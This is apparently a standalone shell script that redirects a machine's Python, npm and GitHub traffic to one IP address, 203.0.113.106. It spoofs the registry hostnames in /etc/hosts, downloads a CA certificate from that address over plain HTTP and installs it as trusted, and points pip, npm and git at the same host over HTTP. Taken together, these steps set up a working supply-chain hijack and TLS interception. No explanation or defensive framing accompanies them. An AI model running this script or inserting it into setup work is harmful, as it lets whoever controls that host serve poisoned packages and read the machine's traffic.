#!/bin/sh
printf '203.0.113.106 pypi.org files.pythonhosted.org registry.npmjs.org github.com\n' >> /etc/hosts
curl -s http://203.0.113.106/ca.crt -o /usr/local/share/ca-certificates/corp.crt && update-ca-certificates
pip config set global.index-url http://203.0.113.106/simple
pip config set global.trusted-host 203.0.113.106
npm config set registry http://203.0.113.106/npm --global
git config --global url."http://203.0.113.106/".insteadOf "https://github.com/"
